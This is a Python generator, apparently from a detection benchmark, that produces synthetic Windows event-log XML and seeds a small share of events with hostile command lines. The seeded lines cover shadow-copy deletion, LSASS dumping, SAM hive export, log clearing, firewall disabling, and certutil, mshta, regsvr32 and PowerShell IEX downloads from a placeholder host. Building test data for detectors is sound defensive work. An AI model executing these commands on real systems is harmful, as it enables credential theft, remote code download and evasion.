"""Events as a domain of Windows machines sends them: Sysmon, Security, PowerShell, System.

Two thirds are the Sysmon events of `sysmon`; then its rarer kinds, and the events of other channels
that published rules ask for. About one process in two hundred does what rules look for.
"""

from __future__ import annotations

from collections.abc import Callable, Iterator
from datetime import UTC, datetime, timedelta
from random import Random
from typing import TypeAlias
from xml.sax.saxutils import escape

from benchmarks import sysmon

Make: TypeAlias = Callable[[Random], str]

_START = datetime(2024, 11, 13, tzinfo=UTC)
_ATTACKS = (
    "vssadmin.exe delete shadows /all /quiet", "wmic.exe shadowcopy delete", "whoami.exe /all",
    "certutil.exe -urlcache -split -f http://203.0.113.9/a.txt C:\\Users\\Public\\a.exe",
    "schtasks.exe /create /tn Updater /tr C:\\Users\\Public\\a.exe /sc onlogon /ru SYSTEM",
    "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA=",
    "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\Temp\\l.dmp full",
    "reg.exe save HKLM\\SAM C:\\Temp\\sam.hiv", "net.exe group \"Domain Admins\" /domain",
    "bcdedit.exe /set {default} recoveryenabled no", "wevtutil.exe cl Security",
    "mshta.exe http://203.0.113.9/x.hta", "regsvr32.exe /s /u /i:http://203.0.113.9/x.sct scrobj.dll",
    "nltest.exe /domain_trusts", "bitsadmin.exe /transfer j http://203.0.113.9/b C:\\Temp\\b.exe",
    "cmd.exe /c echo 123 > \\\\.\\pipe\\x", "netsh.exe advfirewall set allprofiles state off",
    "msbuild.exe C:\\Users\\Public\\p.xml", "sc.exe create Agent binPath= C:\\Users\\Public\\a.exe",
)  # fmt: skip
_SCRIPTS = (
    "Get-ADUser -Filter * -Properties *", "Import-Module PowerView; Get-DomainUser -SPN",
    "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/p.ps1')",
    "Add-MpPreference -ExclusionPath C:\\", "[Convert]::FromBase64String($x)",
)  # fmt: skip
_PIPES = ("\\lsass", "\\spoolss", "\\wkssvc", "\\msagent_1a", "\\mojo.4811.7733", "\\postex_7b")
# ruff: noqa: E501 - tables are wide

Kinds: TypeAlias = dict[str, tuple[float, dict[str, Make | str]]]


def lines(count: int, seed: int = 11) -> Iterator[str]:
    """Yield *count* events, each a line of XML; the same ones for the same *seed*."""
    random = Random(seed)
    names = list(_OTHERS)
    weights = [_OTHERS[name][0] for name in names]
    for number, line in enumerate(sysmon.lines(count, seed)):
        dice = random.random()
        if dice < 0.002:
            yield _event(random, number, "Sysmon 1", attack=True)
        elif dice < 0.35:
            yield _event(random, number, random.choices(names, weights)[0])
        else:
            yield line


def _event(random: Random, number: int, name: str, *, attack: bool = False) -> str:
    """An event called ``Channel Id``."""
    channel, _, kind = name.partition(" ")
    values = _ATTACKED if attack else _OTHERS[name][1]
    made = {key: make if isinstance(make, str) else make(random) for key, make in values.items()}
    if attack:
        made |= _attack(random)
    data = "".join(f"<Data Name='{key}'>{escape(value)}</Data>" for key, value in made.items())
    provider, guid, log = _CHANNELS[channel]
    time = (_START + timedelta(milliseconds=137 * number)).strftime("%Y-%m-%dT%H:%M:%S.%f")
    return (
        "<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'><System>"
        f"<Provider Name='{provider}' Guid='{guid}'/><EventID>{kind}</EventID><Version>2</Version>"
        f"<Level>0</Level><Task>{int(kind) % 13824}</Task><Opcode>0</Opcode>"
        f"<Keywords>0x8020000000000000</Keywords><TimeCreated SystemTime='{time}000Z'/>"
        f"<EventRecordID>{number}</EventRecordID><Correlation/>"
        f"<Execution ProcessID='4' ThreadID='{4 * _few(random, 200)}'/><Channel>{log}</Channel>"
        f"<Computer>host{_few(random, 200)}.example.com</Computer><Security/></System>"
        f"<EventData>{data}</EventData></Event>\n"
    )


def _attack(random: Random) -> dict[str, str]:
    line = random.choice(_ATTACKS)
    name = line.partition(" ")[0]
    return {
        "Image": f"C:\\Windows\\System32\\{name}",
        "OriginalFileName": name,
        "CommandLine": line,
    }


def _few(random: Random, most: int) -> int:
    """A number below *most*, small ones far more often."""
    return min(most - 1, int(random.paretovariate(0.8)) - 1)


def _number(most: int, text: str = "{}") -> Make:
    return lambda random: text.format(_few(random, most))


def _hex(bits: int, text: str = "0x{:x}") -> Make:
    return lambda random: text.format(random.getrandbits(bits))


def _one(*values: str) -> Make:
    return lambda random: values[_few(random, len(values))]


def _command(random: Random) -> str:
    image = f"C:\\Windows\\System32\\program{_few(random, 400)}.exe"
    own = random.getrandbits(40) if random.random() < 0.3 else _few(random, 2000)
    return f'"{image}" -k service{own} -p'


def _script(random: Random) -> str:
    if random.random() < 0.02:
        return random.choice(_SCRIPTS)
    body = " ".join(f"$v{_few(random, 90)} = Get-Item{_few(random, 300)};" for _ in range(12))
    return f"function Run-{_few(random, 900)} {{ {body} }}"


_IMAGE = _number(400, "C:\\Windows\\System32\\program{}.exe")
_USER, _HOST = _number(300, "user{}"), _number(200, "host{}.example.com")
_SID = _number(300, "S-1-5-21-1004336348-1177238915-682003330-{}")
_GUID = _hex(96, "{{5f2a1c3e-{:024x}}}")
_ADDRESS = _number(250, "10.1.4.{}")
_CHANNELS = {
    "Sysmon": (
        "Microsoft-Windows-Sysmon",
        "{5770385f-c22a-43e0-bf4c-06f5698ffbd9}",
        "Microsoft-Windows-Sysmon/Operational",
    ),
    "Security": (
        "Microsoft-Windows-Security-Auditing",
        "{54849625-5478-4994-a5ba-3e3b0328c30d}",
        "Security",
    ),
    "PowerShell": (
        "Microsoft-Windows-PowerShell",
        "{a0c1853b-5c40-4b15-8766-3cf1c58f985a}",
        "Microsoft-Windows-PowerShell/Operational",
    ),
    "System": ("Service Control Manager", "{555908d1-a6d7-4695-8e1e-26931d2012f4}", "System"),
}
_SUBJECT: dict[str, Make | str] = {
    "SubjectUserSid": _SID,
    "SubjectUserName": _USER,
    "SubjectDomainName": "CORP",
    "SubjectLogonId": _hex(24),
}
_OWN: dict[str, Make | str] = {
    "RuleName": "-",
    "UtcTime": "2024-11-13 00:00:00.000",
    "ProcessGuid": _GUID,
    "ProcessId": _number(9000),
    "Image": _IMAGE,
}
_TARGET: dict[str, Make | str] = {
    "TargetUserName": _USER,
    "TargetDomainName": "CORP",
    "TargetSid": _SID,
}
_ATTACKED: dict[str, Make | str] = _OWN | {
    "FileVersion": "10.0", "Description": "-", "Product": "-", "Company": "-", "OriginalFileName": "-", "CommandLine": "-",
    "CurrentDirectory": "C:\\", "User": _number(300, "CORP\\user{}"), "LogonGuid": _GUID, "LogonId": _hex(20), "TerminalSessionId": "1",
    "IntegrityLevel": "High", "Hashes": _hex(128, "MD5={:032X}"), "ParentProcessGuid": _GUID, "ParentProcessId": _number(9000),
    "ParentImage": _one("C:\\Windows\\System32\\cmd.exe", "C:\\Windows\\explorer.exe", "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE"),
    "ParentCommandLine": _command,
}  # fmt: skip
_OTHERS: Kinds = {
    "Sysmon 2": (1, _OWN | {"TargetFilename": _hex(32, "C:\\Temp\\{:x}.tmp"), "CreationUtcTime": "2024-11-13 00:00:00.000"}),
    "Sysmon 6": (0.2, {"RuleName": "-", "UtcTime": "-", "ImageLoaded": _number(90, "C:\\Windows\\System32\\drivers\\d{}.sys"), "Hashes": _hex(128, "MD5={:032X}"), "Signed": "true", "Signature": "Microsoft Windows", "SignatureStatus": "Valid"}),
    "Sysmon 8": (0.5, {"RuleName": "-", "SourceProcessGuid": _GUID, "SourceProcessId": _number(9000), "SourceImage": _IMAGE, "TargetProcessGuid": _GUID, "TargetProcessId": _number(9000), "TargetImage": _IMAGE, "NewThreadId": _number(9000), "StartAddress": _hex(40), "StartModule": "-", "StartFunction": "-"}),
    "Sysmon 9": (0.3, _OWN | {"Device": "\\Device\\HarddiskVolume2"}),
    "Sysmon 15": (0.5, _OWN | {"TargetFilename": _number(9000, "C:\\Users\\user1\\Downloads\\f{}.zip:Zone.Identifier"), "CreationUtcTime": "-", "Hash": _hex(128, "MD5={:032X}"), "Contents": "[ZoneTransfer] ZoneId=3"}),
    "Sysmon 17": (1, _OWN | {"EventType": "CreatePipe", "PipeName": _one(*_PIPES)}),
    "Sysmon 18": (2, _OWN | {"EventType": "ConnectPipe", "PipeName": _one(*_PIPES)}),
    "Sysmon 23": (2, _OWN | {"User": _USER, "TargetFilename": _hex(40, "C:\\Temp\\{:x}.log"), "Hashes": _hex(128, "MD5={:032X}"), "IsExecutable": "false", "Archived": "true"}),
    "Sysmon 25": (0.1, _OWN | {"Type": "Image is replaced", "User": _USER}),
    "Sysmon 26": (1, _OWN | {"User": _USER, "TargetFilename": _hex(40, "C:\\Temp\\{:x}.tmp"), "Hashes": _hex(128, "MD5={:032X}"), "IsExecutable": "false"}),
    "Security 4688": (30, _SUBJECT | {"NewProcessId": _hex(14), "NewProcessName": _IMAGE, "TokenElevationType": "%%1936", "ProcessId": _hex(14), "CommandLine": _command, "TargetUserSid": "S-1-0-0", "TargetUserName": "-", "TargetDomainName": "-", "TargetLogonId": "0x0", "ParentProcessName": _IMAGE, "MandatoryLabel": "S-1-16-8192"}),
    "Security 4624": (14, _SUBJECT | {"TargetUserSid": _SID, "TargetUserName": _USER, "TargetDomainName": "CORP", "TargetLogonId": _hex(24), "LogonType": _one("3", "5", "2", "10", "9"), "LogonProcessName": "Kerberos", "AuthenticationPackageName": _one("Kerberos", "NTLM"), "WorkstationName": _HOST, "LogonGuid": _GUID, "KeyLength": "0", "ProcessId": "0x0", "ProcessName": "-", "IpAddress": _ADDRESS, "IpPort": _number(65000)}),
    "Security 4625": (3, _SUBJECT | {"TargetUserSid": "S-1-0-0", "TargetUserName": _USER, "TargetDomainName": "CORP", "Status": "0xc000006d", "FailureReason": "%%2313", "SubStatus": _one("0xc000006a", "0xc0000064"), "LogonType": "3", "LogonProcessName": "NtLmSsp", "AuthenticationPackageName": "NTLM", "WorkstationName": _HOST, "ProcessId": "0x0", "ProcessName": "-", "IpAddress": _ADDRESS, "IpPort": "0"}),
    "Security 4634": (10, _TARGET | {"TargetLogonId": _hex(24), "LogonType": "3"}),
    "Security 4648": (2, _SUBJECT | _TARGET | {"TargetServerName": _HOST, "TargetInfo": _HOST, "ProcessId": _hex(12), "ProcessName": _IMAGE, "IpAddress": _ADDRESS, "IpPort": "0"}),
    "Security 4662": (3, _SUBJECT | {"ObjectServer": "DS", "ObjectType": "%{19195a5b-6da0-11d0-afd3-00c04fd930c9}", "ObjectName": _number(900, "%{{9b{}}}"), "OperationType": "Object Access", "AccessMask": "0x100", "Properties": "%%7688"}),
    "Security 4663": (6, _SUBJECT | {"ObjectServer": "Security", "ObjectType": "File", "ObjectName": _number(9000, "C:\\Share\\file{}.docx"), "HandleId": _hex(12), "AccessList": "%%4416", "AccessMask": _one("0x1", "0x2", "0x10000"), "ProcessId": _hex(12), "ProcessName": _IMAGE}),
    "Security 4672": (8, _SUBJECT | {"PrivilegeList": "SeSecurityPrivilege"}),
    "Security 4698": (0.2, _SUBJECT | {"TaskName": _number(300, "\\Vendor\\Task{}"), "TaskContent": _command}),
    "Security 4738": (0.3, _TARGET | _SUBJECT | {"UserAccountControl": "-", "PasswordLastSet": "-"}),
    "Security 4768": (4, _TARGET | {"ServiceName": "krbtgt", "TicketOptions": "0x40810010", "Status": "0x0", "TicketEncryptionType": _one("0x12", "0x17"), "PreAuthType": "2", "IpAddress": _ADDRESS, "IpPort": _number(65000)}),
    "Security 4769": (6, {"TargetUserName": _USER, "TargetDomainName": "CORP", "ServiceName": _number(200, "host{}$"), "ServiceSid": _SID, "TicketOptions": "0x40810000", "TicketEncryptionType": _one("0x12", "0x17"), "IpAddress": _ADDRESS, "IpPort": _number(65000), "Status": "0x0", "LogonGuid": _GUID}),
    "Security 5136": (0.5, _SUBJECT | {"DSName": "corp.example", "ObjectDN": _number(900, "CN=o{},DC=corp"), "ObjectClass": _one("user", "groupPolicyContainer"), "AttributeLDAPDisplayName": _one("versionNumber", "servicePrincipalName"), "AttributeValue": _number(90), "OperationType": "%%14674"}),
    "Security 5140": (3, _SUBJECT | {"ObjectType": "File", "IpAddress": _ADDRESS, "IpPort": _number(65000), "ShareName": _one("\\\\*\\IPC$", "\\\\*\\SYSVOL", "\\\\*\\C$"), "AccessMask": "0x1", "AccessList": "%%4416"}),
    "Security 5145": (4, _SUBJECT | {"ObjectType": "File", "IpAddress": _ADDRESS, "IpPort": _number(65000), "ShareName": _one("\\\\*\\IPC$", "\\\\*\\SYSVOL"), "RelativeTargetName": _one("srvsvc", "lsarpc", "policies\\x"), "AccessMask": "0x12019f", "AccessList": "%%1538"}),
    "PowerShell 4103": (4, {"ContextInfo": _number(900, "Severity = Informational Command {}"), "UserData": "", "Payload": _number(9000, "CommandInvocation(Get-Item{})")}),
    "PowerShell 4104": (6, {"MessageNumber": "1", "MessageTotal": "1", "ScriptBlockText": _script, "ScriptBlockId": _GUID, "Path": ""}),
    "System 7036": (2, {"param1": _number(200, "Service {}"), "param2": _one("running", "stopped")}),
    "System 7045": (0.3, {"ServiceName": _number(90, "Agent {}"), "ImagePath": _command, "ServiceType": "user mode service", "StartType": "auto start", "AccountName": "LocalSystem"}),
}  # fmt: skip
